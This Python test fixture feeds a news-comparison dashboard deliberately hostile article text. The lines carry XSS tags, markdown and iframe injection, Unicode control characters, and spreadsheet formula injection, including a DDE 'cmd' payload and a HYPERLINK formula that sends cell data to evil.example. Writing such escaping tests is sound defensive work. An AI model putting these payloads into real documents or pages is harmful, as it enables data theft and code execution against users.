"""A story whose texts try to be more than text: markup, formulas, directions, what no file format can hold."""

from __future__ import annotations

from dashboard.comparison import Comparison
from dashboard.pipeline import compare
from dashboard.story.read import read_files
from tests.support.stand_in import SETTINGS, hashed_words

SCRIPT = "<script>document.title='owned'</script>"
LINES = (
    f"The minister met the king on Tuesday {SCRIPT} in the capital.",
    '=HYPERLINK("http://evil.example/?"&A1,"click") the minister said on Tuesday in the capital.',
    "+1+cmd|' /C calc'!A0 was what the king answered on Tuesday in the capital.",
    "@SUM(1+9)*cmd|' /C calc'!A0 stood in the letter that the king gave to the minister.",
    "-2+3 soldiers were counted by the minister and by the king on Tuesday.",
    "<img src=http://evil.example/a.png onerror=alert(1)> stood where the picture of the king should be.",
    "<style>body{display:none}</style> was printed beside the speech of the king.",
    "![picture](http://evil.example/b.png) and [a link](http://evil.example) stood in the speech of the king.",
    "# The minister | wrote | `a table` | **and** bold $x^2$ :red[words] https://evil.example/ to the king.",
    "The king\u202e said backwards \u2066and\u0007 rang a bell\u001b on Tuesday \ufffe in the capital &lt;b&gt; &amp; left.",
    '\'=1+1 said the minister to the king, and "quoted, with a comma" on Tuesday.',
    "</span></td></table></html><iframe src=http://evil.example></iframe> ended the letter of the king.",
)
OUTLETS = ("=Evil|Post", "<b>Bold & Co.</b>", "[Link](http://evil.example)")


def hostile() -> Comparison:
    """Three articles, each with all lines in another order, so that every line is linked and shown."""
    files = {f"{k}.txt": "\n\n".join([*LINES[k:], *LINES[:k]]).encode() for k in range(len(OUTLETS))}
    rows = [f'{k}.txt,"{name}","=1+1"' for k, name in enumerate(OUTLETS)]
    files["outlets.csv"] = "\n".join(["file,outlet,evidence", *rows]).encode()
    return compare(read_files("<i>hostile</i> =1", files), SETTINGS, encoder=hashed_words)
